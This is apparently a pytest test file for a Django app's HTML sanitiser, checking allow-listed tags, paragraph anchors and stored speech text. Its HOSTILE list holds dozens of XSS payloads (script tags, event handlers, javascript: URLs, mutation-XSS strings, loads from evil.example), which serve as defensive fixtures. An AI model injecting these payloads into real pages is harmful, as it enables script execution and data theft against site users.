import re
from io import StringIO

import pytest
from django import forms
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from speeches import richtext
from speeches.models import Speech
from speeches.richtext import RichTextField, anchor_paragraphs, from_paragraphs, sanitise
from speeches.textblocks import plain_paragraphs, plain_text

PLAIN = (
    "strong em u sub sup br ul ol li blockquote table caption thead tbody tr figure figcaption"
).split()
ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "td": {"colspan", "rowspan", "class"},
    "th": {"colspan", "rowspan", "scope", "class"},
    **{tag: {"id", "class"} for tag in ("p", "h2", "h3", "h4")},
    **{tag: set() for tag in PLAIN},
}
VALUES = {
    "href": re.compile(r"(https?://|mailto:|/|#|[^\s:]*\Z)"),
    "src": re.compile(r"/(?![/\\])[^\s\\]*\Z"),
    "id": re.compile(r"p[1-9][0-9]*\Z"),
    "class": re.compile(r"(text-(left|center|right|justify) ?)*\Z"),
    "rel": re.compile(r"noopener noreferrer\Z"),
    **dict.fromkeys(["width", "height", "colspan", "rowspan"], re.compile(r"[0-9]{1,4}\Z")),
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<p><script>alert(1)//",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/a.png OnErRoR='alert(1)'>",
    "<img/src='/a.png'/onload=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(2)'>字</p>",
    "<a href='/x' onfocus=alert(1) autofocus tabindex=1>字</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>字</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><p onclick=alert(1)>字</p></foreignObject></svg>",
    "<a href='javascript:alert(1)'>字</a>",
    "<a href='JaVaScRiPt:alert(1)'>字</a>",
    "<a href='&#106;avascript&#58;alert(1)'>字</a>",
    "<a href='java&#x09;script:alert(1)'>字</a>",
    "<a href=' \n javascript:alert(1)'>字</a>",
    "<a href='\x01javascript:alert(1)'>字</a>",
    "<a href='vbscript:msgbox(1)'>字</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>字</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='http://evil.example/pixel.png'>",
    "<img src='//evil.example/pixel.png'>",
    "<img src='/\\evil.example/pixel.png'>",
    "<img src='/\t/evil.example/pixel.png'>",
    "<img src='/\n/evil.example/pixel.png'>",
    "<img src='\\\\evil.example\\pixel.png'>",
    "<img src='pixel.png' srcset='http://evil.example/2x.png 2x'>",
    "<p style='background:url(http://evil.example/)'>字</p>",
    "<p style='width:expression(alert(1))'>字</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='http://evil.example'><input name=p><button formaction='javascript:1'>字",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>字</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><p title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<a href='/x' title='<p onmouseover=alert(1) x>'>字</a>",
    "<img src='/a.png' alt='<p><script>alert(1)</script>'>",
    "<p title='\" onmouseover=alert(1)'>字</p>",
    "<p id='p1\" onclick=\"alert(1)'>字</p>",
    "<p class='text-center evil'>字</p>",
    "<details open ontoggle=alert(1)>字</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>字",
    "<div onclick=alert(1)>字</div>",
    "<b onclick=alert(1)>字</b>",
    "<td colspan='9 onclick=alert(1)'>字</td>",
    "<table><tr><td colspan='99999'>字</td></tr></table>",
    "<marquee onstart=alert(1)>字</marquee>",
    "<p\x00 onclick=alert(1)>字</p>",
]


def outside_the_list(html: str) -> list[str]:
    """What a parser other than the sanitiser's sees in ``html`` that is not allowed."""
    root = lxml_html.fragment_fromstring(html, create_parent="div")
    found = []
    for element in root.iterdescendants():
        if element.tag not in ALLOWED:
            found.append(f"<{element.tag}>")
            continue
        for name, value in element.attrib.items():
            if name not in ALLOWED[element.tag] or not VALUES.get(name, re.compile("")).match(
                value
            ):
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


TAGS = (
    "p div b i h1 h2 h6 a ul ol li table tr td caption tbody blockquote figure figcaption section "
    "math mtext svg style script template noscript form select textarea title u br img iframe nobr "
    "mi annotation-xml foreignObject plaintext xmp center"
).split()
generated_html = st.lists(
    st.one_of(
        st.sampled_from([f"<{tag}>" for tag in TAGS] + [f"</{tag}>" for tag in TAGS]),
        st.sampled_from(
            [
                "字",
                "a ",
                "\n",
                "&lt;",
                "&nbsp;",
                "<!--",
                "-->",
                "<p id=p3>",
                "<p id='p3' class='text-center x'>",
                "<img src=/a.png onerror=alert(1)>",
                "<a href='/x' title='<b>'>",
                "<td colspan=2>",
            ]
        ),
        st.text(max_size=6),
    ),
    max_size=12,
).map("".join)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_only_the_allow_list_is_left_of_hostile_text(hostile):
    for html in (
        sanitise(hostile),
        anchor_paragraphs(sanitise(hostile)),
        from_paragraphs([hostile]),
    ):
        assert outside_the_list(html) == []


def test_the_oracle_sees_what_is_not_allowed():
    assert outside_the_list("<p onclick='x'>a</p>") == ["<p onclick='x'>"]
    assert outside_the_list("<a href='javascript:x'>a</a>") == ["<a href='javascript:x'>"]
    assert outside_the_list("<img src='//evil'>") == ["<img src='//evil'>"]
    assert outside_the_list("<section>a</section>") == ["<section>"]


@given(generated_html)
@hypothesis_settings(max_examples=300, deadline=None)
def test_sanitising_twice_changes_nothing_and_leaves_only_the_allow_list(html):
    once = sanitise(html)
    assert sanitise(once) == once
    stored = anchor_paragraphs(once)
    assert anchor_paragraphs(sanitise(stored)) == stored
    assert outside_the_list(stored) == []


def test_blocks_that_a_removed_tag_leaves_nested_are_set_side_by_side():
    assert sanitise("<h2>甲<form><h2>乙</h2></form></h2>") == "<h2>甲</h2><h2>乙</h2>"


def test_what_never_settles_ends_after_a_bounded_number_of_readings(monkeypatch):
    readings = []
    monkeypatch.setattr(richtext, "_cleaned", lambda html: readings.append(html) or html + "x")
    assert sanitise("") == "x" * len(readings)
    assert len(readings) < 20


def test_what_staff_use_is_kept():
    html = (
        '<h2 id="p1">标题</h2><p id="p2" class="text-center">甲<strong>乙</strong><em>丙</em>'
        "<u>丁</u>H<sub>2</sub>O<br>x<sup>2</sup></p><ul><li>一</li></ul><ol><li>二</li></ol>"
        '<blockquote><p id="p3">引文</p></blockquote><table><caption>表</caption>'
        '<thead><tr><th scope="col">头</th></tr></thead>'
        '<tbody><tr><td colspan="2">格</td></tr></tbody></table><figure>'
        '<img src="/media/a.png" alt="图" width="9" height="9"><figcaption>说明</figcaption>'
        "</figure>"
    )
    assert anchor_paragraphs(sanitise(html)) == html


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<b>字</b>", "<strong>字</strong>"),
        ("<I>字</I>", "<em>字</em>"),
        ("<h1>字</h1>", "<h2>字</h2>"),
        ("<h6>字</h6>", "<h4>字</h4>"),
        ("<div>字</div>", "<p>字</p>"),
    ],
)
def test_what_means_the_same_is_renamed(pasted, kept):
    assert sanitise(pasted) == kept


@pytest.mark.parametrize("address", ["https://a.example/x?y=1", "mailto:a@b.example", "/x", "#p3"])
def test_links_keep_their_address_and_give_nothing_away(address):
    (link,) = lxml_html.fragments_fromstring(sanitise(f"<a href='{address}'>字</a>"))
    assert (link.get("href"), link.get("rel")) == (address, "noopener noreferrer")


@pytest.mark.parametrize(
    "opening", ["<blockquote>", "<ul><li>", "<b>", "<em><sub><p>", "<table><tr><td>"]
)
def test_text_nested_beyond_all_reason_keeps_its_words(opening):
    html = sanitise(f"<p id='p7'>始</p>{opening * 400}甲<p>乙</p>丙")
    assert sanitise(html) == html
    assert re.sub(r"\s", "", plain_text(html)) == "始甲乙丙"
    assert 'id="p7"' in html


def test_lists_within_lists_are_kept_to_a_reasonable_depth():
    html = sanitise("<ul><li>" * 20 + "甲")
    assert html.count("<ul>") == 20


@pytest.mark.parametrize("code", [0, 1, 0x0B, 0x1F, 0xD800, 0xFFFE])
def test_characters_that_no_export_can_hold_are_dropped(code):
    assert sanitise(f"<p>甲{chr(code)}乙</p>") == "<p>甲乙</p>"
    assert "乙" in sanitise(f"<p>甲&#{code};乙</p>")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe]", sanitise(f"<p>甲&#{code};乙</p>"))


@pytest.mark.parametrize("code", [1, 0x0B, 0x1F])
def test_a_control_character_in_an_address_cannot_hide_its_scheme(code):
    hidden = f"<a href='java&#{code};script:alert(1)'>字</a><img src='/&#{code};/evil.example'>"
    assert outside_the_list(sanitise(hidden)) == []


# Anchors


def anchors(html: str) -> list[str]:
    return re.findall(r'id="([^"]*)"', html)


def test_anchors_stay_on_another_save():
    once = anchor_paragraphs("<p>甲</p><h3>乙</h3><p>丙</p>")
    assert anchors(once) == ["p1", "p2", "p3"]
    assert anchor_paragraphs(once) == once


def test_a_new_paragraph_gets_a_number_that_no_removed_middle_one_had():
    edited = '<p id="p1">甲</p><p>新</p><p id="p3">丙</p>'
    assert anchors(anchor_paragraphs(edited)) == ["p1", "p4", "p3"]


def test_an_emptied_last_paragraph_does_not_hand_its_number_on():
    edited = '<p id="p1">甲</p><p>新</p><p id="p3">&nbsp;<br></p>'
    assert anchor_paragraphs(edited) == '<p id="p1">甲</p><p id="p4">新</p>'


def test_a_repeated_anchor_stays_with_the_first():
    assert anchors(anchor_paragraphs('<p id="p2">甲</p><p id="p2">乙</p>')) == ["p2", "p3"]


@pytest.mark.parametrize("hostile", ["p0", "p01", "p9999999", "x", "p1 ", "", "P1", "p１", "p1\n"])
def test_an_anchor_of_another_shape_is_replaced(hostile):
    assert anchors(anchor_paragraphs(sanitise(f"<p id='{hostile}'>甲</p>"))) == ["p1"]


def test_words_that_look_like_tags_are_not_anchored():
    html = sanitise("<p>&lt;p&gt;甲&lt;/p&gt;</p><a title='<p>'>乙</a>")
    assert anchors(anchor_paragraphs(html)) == ["p1"]


# Plain paragraphs


def test_plain_paragraphs_are_escaped_and_keep_their_line_breaks():
    assert from_paragraphs(["1<2 & “甲”", "乙\n丙", " "]) == (
        '<p id="p1">1&lt;2 &amp; “甲”</p>\n<p id="p2">乙<br>丙</p>'
    )


def told(text: str) -> str:
    """``text`` without control characters, its blanks as one, none at the ends of a line."""
    lines = (re.sub(r"[\x00-\x08\x0e-\x1f]", "", line) for line in text.splitlines())
    return "\n".join(re.sub(r"\s+", " ", line).strip() for line in lines).strip()


readable = st.text(st.characters(exclude_categories=["Cs", "Cn", "Co"]), max_size=30)


@given(st.lists(readable, max_size=6))
@hypothesis_settings(max_examples=300, deadline=None)
def test_plain_paragraphs_come_back_as_they_were(paragraphs):
    told_back = [told(text) for text in plain_paragraphs(from_paragraphs(paragraphs))]
    assert told_back == [told(text) for text in paragraphs if told(text)]


# The field


DIRTY = "<p onclick=alert(1)>甲<script>alert(1)</script></p>"
CLEAN = '<p id="p1">甲</p>'


def stored(speech: Speech) -> str:
    return Speech.objects.values_list("body", flat=True).get(pk=speech.pk)


def test_save_stores_safe_text_and_shows_it_on_the_instance(speech):
    speech.body = DIRTY
    speech.save()
    assert stored(speech) == speech.body == CLEAN


def test_update_stores_safe_text(speech):
    Speech.objects.filter(pk=speech.pk).update(body=DIRTY)
    assert stored(speech) == CLEAN


def test_bulk_update_stores_safe_text(speech):
    speech.body = DIRTY
    Speech.objects.bulk_update([speech], ["body"])
    assert stored(speech) == CLEAN


def test_bulk_create_stores_safe_text(speech, staff):
    copy = Speech(meeting=speech.meeting, title="乙", body=DIRTY, author=staff.editor)
    Speech.objects.bulk_create([copy])
    assert Speech.objects.get(title="乙").body == CLEAN


def test_an_expression_passes_to_the_database_as_it_is(speech):
    Speech.objects.filter(pk=speech.pk).update(body=models.F("title"))
    assert stored(speech) == speech.title


def test_nothing_is_stored_as_an_empty_text(speech):
    speech.body = None
    speech.save()
    assert stored(speech) == ""


def test_the_form_answers_with_safe_text_and_refuses_an_empty_one():
    field = Speech._meta.get_field("body").formfield()
    assert field.clean(DIRTY) == CLEAN
    with pytest.raises(forms.ValidationError, match="必填"):
        field.clean("")
    assert Speech._meta.get_field("body").formfield(required=False).clean(None) == ""


def addresses_in(widget: richtext.EditorWidget) -> set[str]:
    """Where the rendered ``widget`` sends files."""
    widget.render("body", "<p>甲</p>")
    return {value for name, value in widget.config.items() if name.lower().endswith("url")}


def test_the_editor_sends_files_to_the_views_of_the_admin_alone():
    names = ("upload_picture", "upload_attachment", "picture_library")
    ours = {reverse(f"admin:speeches_{name}") for name in names}
    assert ours <= addresses_in(richtext.EditorWidget()) <= {*ours, ""}


def test_without_an_upload_view_the_editor_sends_no_files(settings):
    settings.ROOT_URLCONF = __name__
    assert addresses_in(richtext.EditorWidget()) == {""}


urlpatterns: list[object] = []


def test_migrations_see_a_plain_text_column():
    name, path, args, kwargs = RichTextField("text", blank=True).deconstruct()
    assert (name, path, list(args)) == (None, "django.db.models.TextField", [])
    assert kwargs == {"verbose_name": "text", "blank": True}


@pytest.mark.parametrize(
    ("html", "wordless"),
    [
        ('<p>甲</p><img src="/a.png" alt="会场">', False),
        ('<img alt="" src="/a.png">', True),
        ('<img src="/a.png" alt="  ">', True),
        ('<img src="/a.png">', True),
        ('<img src="/a.png" alt="甲"><img src="/b.png">', True),
        ("<p>无图</p>", False),
    ],
)
def test_a_picture_without_words_is_noticed(html, wordless):
    assert richtext.has_wordless_picture(richtext.sanitise(html)) is wordless


@pytest.mark.django_db
def test_the_models_need_no_migration():
    call_command("makemigrations", "--check", "--dry-run", stdout=StringIO())


def test_nothing_is_left_of_a_picture_from_elsewhere():
    assert sanitise('<p>好<img alt="x" src="//evil.example/a.png">的</p>') == "<p>好的</p>"
    kept = '<p><img alt="a&gt;b" src="/media/a.png"></p>'
    assert sanitise(kept) == kept
